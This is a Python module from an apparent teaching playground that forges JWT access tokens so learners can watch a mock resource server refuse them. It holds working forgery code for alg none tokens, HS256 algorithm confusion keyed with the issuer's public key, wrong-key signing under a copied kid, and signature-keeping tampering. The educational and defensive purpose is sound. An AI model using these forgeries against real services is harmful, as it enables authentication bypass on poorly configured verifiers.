"""Forge JWT access tokens, so a learner can watch the resource server refuse them.

The JWT workbench lets a learner edit a token's claims and sign it again in
several ways, each one an attack that RFC 8725 warns about: a key the issuer
never published, no signature at all (`alg: none`), an HMAC keyed with the
issuer's *public* key (algorithm confusion), or the old signature kept on new
claims. The playground's own key is there too: it shows what only the
authorization server can do.

Every function returns the compact serialization (RFC 7515 7.1) as text and
never contacts a server; sending the token is the request builder's job.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Mapping
from dataclasses import dataclass
from types import MappingProxyType
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization

from mock_servers.keys import SigningKey
from mock_servers.token_generators import ACCESS_TOKEN_TYP

SIGNING_ALGORITHM = "RS256"

PLAYGROUND_KEY = "playground_key"
WRONG_KEY = "wrong_key"
ALG_NONE = "alg_none"
HS256_CONFUSION = "hs256_confusion"
KEEP_SIGNATURE = "keep_signature"


class ForgeError(ValueError):
    """The claims or token cannot be forged as asked; the message says why."""


@dataclass(frozen=True)
class Forgery:
    """One way to (re)sign a token, and what a careful resource server does."""

    id: str
    label: str
    explanation: str


FORGERIES: tuple[Forgery, ...] = (
    Forgery(
        PLAYGROUND_KEY,
        "The playground's key (RS256, the authorization server's private key)",
        "What the authorization server itself does. The signature verifies, so "
        "the API judges the claims: an expired exp or another aud is still refused.",
    ),
    Forgery(
        WRONG_KEY,
        "A wrong key (a fresh RSA key, the same kid)",
        "An attacker's own key with the issuer's kid copied into the header. The "
        "API looks the kid up in the issuer's JWKS, and the signature does not "
        "match that key: InvalidSignatureError (RFC 7515 5.2).",
    ),
    Forgery(
        ALG_NONE,
        "alg: none (unsigned)",
        "No signature at all. RFC 8725 3.1: a verifier must only accept the "
        "algorithms it expects, so `none` is refused unless the API is careless.",
    ),
    Forgery(
        HS256_CONFUSION,
        "HS256 keyed with the public key (algorithm confusion)",
        "An HMAC whose secret is the issuer's public key PEM, which anyone can "
        "fetch. A verifier that lets the token pick its algorithm would check the "
        "HMAC with that same PEM and accept it (RFC 8725 2.1); an allow-list of "
        "RS256 refuses it.",
    ),
    Forgery(
        KEEP_SIGNATURE,
        "Keep the original signature (tampering)",
        "New claims under the old signature: the signature covers header and "
        "claims, so any edit breaks it (RFC 7515 5.2).",
    ),
)

BY_ID: Mapping[str, Forgery] = MappingProxyType(
    {forgery.id: forgery for forgery in FORGERIES}
)


def parse_claims(text: str) -> dict[str, Any]:
    """Claims typed by a learner: a JSON object, or a ForgeError saying why not."""
    try:
        claims = json.loads(text)
    except json.JSONDecodeError as error:
        raise ForgeError(
            f"The claims are not valid JSON: {error.msg} at line {error.lineno}, "
            f"column {error.colno}."
        ) from None
    if not isinstance(claims, dict):
        raise ForgeError(
            "The claims must be a JSON object ({...}), "
            f"not a JSON {type(claims).__name__}."
        )
    return claims


def sign(
    claims: Mapping[str, Any],
    key: SigningKey,
    *,
    header: Mapping[str, Any] | None = None,
) -> str:
    """Sign `claims` with `key` as RS256, typed at+jwt and naming the key's kid.

    `header` adds or replaces header fields: the wrong-key forgery passes the
    issuer's kid here. The claims are signed as given, with no claim checks,
    so a learner can forge any content.
    """
    headers = {"typ": ACCESS_TOKEN_TYP, "kid": key.kid, **(header or {})}
    headers.setdefault("alg", SIGNING_ALGORITHM)
    try:
        return jwt.PyJWS().encode(
            _json(claims), key.private_key, algorithm=None, headers=headers
        )
    except (jwt.PyJWTError, NotImplementedError, TypeError, ValueError) as error:
        raise ForgeError(f"PyJWT could not sign these: {error}") from None


def unsigned(claims: Mapping[str, Any], header: Mapping[str, Any] | None = None) -> str:
    """An unsecured JWT (RFC 7519 6): alg none and an empty signature part."""
    headers = {"alg": "none", "typ": ACCESS_TOKEN_TYP, **(header or {})}
    # RFC 7519 6.1: the JWS Signature is the empty octet sequence, so the
    # token ends with its second dot.
    return f"{_b64(_json(headers))}.{_b64(_json(claims))}."


def hs256_with_public_key(
    claims: Mapping[str, Any],
    public_pem: bytes | str,
    header: Mapping[str, Any] | None = None,
) -> str:
    """HS256 with the issuer's public key PEM as the HMAC secret: key confusion.

    PyJWT refuses to use a PEM as an HMAC secret (the very defence), so the
    HMAC is computed here with hmac and hashlib.
    """
    secret = public_pem.encode("ascii") if isinstance(public_pem, str) else public_pem
    headers = {"alg": "HS256", "typ": ACCESS_TOKEN_TYP, **(header or {})}
    signing_input = f"{_b64(_json(headers))}.{_b64(_json(claims))}"
    # RFC 7518 3.2: HMAC SHA-256 over the ASCII of the JWS Signing Input.
    mac = hmac.new(secret, signing_input.encode("ascii"), hashlib.sha256).digest()
    return f"{signing_input}.{_b64(mac)}"


def public_pem_from_jwk(jwk: Mapping[str, Any]) -> bytes:
    """The PEM text of a published RSA key, as a resource server would load it
    (and as a key-confusion attacker uses it for an HMAC secret)."""
    public_key = jwt.PyJWK(dict(jwk)).key
    return public_key.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def with_claims(token: str, claims: Mapping[str, Any]) -> str:
    """The token's header and signature around new claims: tampering."""
    parts = token.strip().split(".")
    if len(parts) != 3:
        raise ForgeError(
            f"A signed JWT has three parts separated by dots; this one has "
            f"{len(parts)}."
        )
    header, _payload, signature = parts
    return f"{header}.{_b64(_json(claims))}.{signature}"


def forge(
    forgery: str,
    claims: Mapping[str, Any],
    *,
    key: SigningKey,
    wrong_key: SigningKey | None = None,
    original_token: str | None = None,
) -> str:
    """One of FORGERIES applied to `claims`; `key` is the authorization server's."""
    if forgery == PLAYGROUND_KEY:
        return sign(claims, key)
    if forgery == WRONG_KEY:
        if wrong_key is None:
            raise ForgeError("The wrong-key forgery needs a key to sign with.")
        # The attacker copies the issuer's kid, so the API finds the issuer's
        # public key and checks the signature against it.
        return sign(claims, wrong_key, header={"kid": key.kid})
    if forgery == ALG_NONE:
        return unsigned(claims, header={"kid": key.kid})
    if forgery == HS256_CONFUSION:
        return hs256_with_public_key(claims, key.public_pem(), header={"kid": key.kid})
    if forgery == KEEP_SIGNATURE:
        if not original_token:
            raise ForgeError("Keeping the signature needs the original token.")
        return with_claims(original_token, claims)
    known = ", ".join(BY_ID)
    raise ForgeError(f"Unknown way to sign {forgery!r}; known: {known}.")


def _json(value: Mapping[str, Any]) -> bytes:
    try:
        return json.dumps(value, separators=(",", ":")).encode("utf-8")
    except (TypeError, ValueError) as error:
        raise ForgeError(f"These cannot be written as JSON: {error}") from None


def _b64(octets: bytes) -> str:
    # Base64url without padding (RFC 7515 2).
    return base64.urlsafe_b64encode(octets).rstrip(b"=").decode("ascii")
